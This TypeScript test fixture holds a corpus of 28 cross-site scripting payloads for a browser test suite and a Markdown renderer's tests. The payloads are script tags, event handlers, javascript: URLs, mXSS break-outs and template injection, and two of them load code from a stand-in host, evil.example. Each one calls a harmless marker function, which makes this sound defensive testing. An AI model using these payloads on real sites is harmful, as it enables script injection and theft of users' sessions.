/**
 * Issue 8's XSS corpus: script tags, event-handler attributes, javascript: URLs, SVG onload, break-outs,
 * mXSS and template injection. The browser suite puts it into every field; the Markdown renderer's tests
 * run it through every kind of Markdown.
 */
/** Every entry calls __xss(<its number>) if it ever runs. */
export const XSS_CORPUS = [
  '<script>__xss(0)</script>',
  '<img src=x onerror=__xss(1)>',
  '<svg onload=__xss(2)>',
  '<svg><script>__xss(3)</script></svg>',
  '"><script>__xss(4)</script>',
  "'><img src=x onerror=__xss(5)>",
  'javascript:__xss(6)',
  '<a href="javascript:__xss(7)">link</a>',
  '<iframe srcdoc="<script>parent.__xss(8)</script>"></iframe>',
  '</textarea><script>__xss(9)</script>',
  '</script><script>__xss(10)</script>',
  '<details open ontoggle=__xss(11)>',
  '" onmouseover="__xss(12)" x="',
  "' autofocus onfocus='__xss(13)",
  '<body onload=__xss(14)>',
  "{{constructor.constructor('__xss(15)')()}}",
  '<math><mtext><table><mglyph><style><img src=x onerror=__xss(16)>',
  '<input autofocus onfocus=__xss(17)>',
  '<object data="javascript:__xss(18)"></object>',
  '&lt;script&gt;__xss(19)&lt;/script&gt;',
  '<!--<img src="--><img src=x onerror=__xss(20)//">',
  '<noscript><p title="</noscript><img src=x onerror=__xss(21)>">',
  '${__xss(22)}',
  '[click](javascript:__xss(23))',
  '<script src="https://evil.example/x.js?__xss(24)"></script>',
  '<style>@import url("https://evil.example/__xss(25).css");</style>',
  '<meta http-equiv="refresh" content="0;url=javascript:__xss(26)">',
  '<a href="  JaVaScRiPt:__xss(27)">x</a>',
] as const;
